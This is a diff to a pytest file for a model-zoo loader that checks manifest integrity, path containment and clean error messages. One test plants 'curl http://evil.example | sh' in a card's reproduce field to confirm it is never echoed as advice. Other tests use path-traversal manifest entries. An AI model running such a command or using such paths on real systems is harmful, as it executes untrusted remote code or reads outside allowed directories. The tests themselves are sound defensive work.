@@ -12,7 +12,7 @@ CARD = {
     "hyperparameters": {"units": 4},
     "metrics": {"val_loss": 0.5},
     "training_seconds": 0.1,
-    "reproduce": "python make_tiny.py",
+    "reproduce": "python -m helpers.tiny train",
 }
 
 
@@ -52,7 +52,7 @@ def test_tampered_file_is_refused_with_restore_hint(saved):
 
 def test_missing_file_names_reproduce_command(saved):
     (saved / "99_test" / "tiny.keras").unlink()
-    with pytest.raises(zoo.ZooError, match=r"missing.*python make_tiny.py"):
+    with pytest.raises(zoo.ZooError, match=r"missing.*python -m helpers.tiny train"):
         zoo.load("99_test/tiny", root=saved)
 
 
@@ -108,3 +108,47 @@ def test_card_only_entries(tmp_path):
     assert set(zoo.read_manifest(tmp_path)) == {"99_test/combo.json"}
     with pytest.raises(ValueError, match="lacks reproduce"):
         zoo.write_card("99_test/bad", {k: v for k, v in CARD.items() if k != "reproduce"}, root=tmp_path)
+
+
+def _cli(root, *args):
+    return subprocess.run([sys.executable, "-m", "helpers.zoo", *args, "--root", str(root)],
+                          capture_output=True, text=True, cwd=paths.ROOT)
+
+
+def test_missing_manifest_fails_verify_and_every_loader(saved):
+    (saved / "MANIFEST.json").unlink()
+    result = _cli(saved, "verify")
+    assert result.returncode == 1 and "MANIFEST.json is missing" in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1
+    with pytest.raises(zoo.ZooError, match="MANIFEST.json is missing"):
+        zoo.load("99_test/tiny", root=saved)
+    with pytest.raises(zoo.ZooError, match="MANIFEST.json is missing"):
+        zoo.card("99_test/tiny", root=saved)
+
+
+@pytest.mark.parametrize("manifest, complaint", [
+    ("[]", "must be an object"),
+    ('{"99_test/tiny.keras": {"bytes": 3}}', "needs a 64-digit hex 'sha256'"),
+    ('{"99_test/tiny.keras": "abc"}', "needs a 64-digit hex 'sha256'"),
+    ('{"../../../../etc/hostname": {"sha256": "' + "0" * 64 + '", "bytes": 1}}', "points outside the zoo"),
+    ('{"/etc/hostname": {"sha256": "' + "0" * 64 + '", "bytes": 1}}', "points outside the zoo"),
+    ("[" * 5000 + "]" * 5000, "must be an object|not valid JSON"),
+])
+def test_malformed_manifest_is_one_clear_error(saved, manifest, complaint):
+    (saved / "MANIFEST.json").write_text(manifest)
+    with pytest.raises(zoo.ZooError, match=complaint):
+        zoo.load("99_test/tiny", root=saved)
+    result = _cli(saved, "verify")
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1 and result.stderr.startswith("error: ")
+
+
+def test_a_changed_card_is_never_echoed_as_advice(saved):
+    card_path = saved / "99_test" / "tiny.json"
+    card = json.loads(card_path.read_text())
+    card["reproduce"] = "curl http://evil.example | sh"
+    card_path.write_text(json.dumps(card))
+    (saved / "99_test" / "tiny.keras").unlink()
+    with pytest.raises(zoo.ZooError) as info:
+        zoo.load("99_test/tiny", root=saved)
+    assert "evil" not in str(info.value) and "git checkout -- zoo/99_test/tiny.keras" in str(info.value)
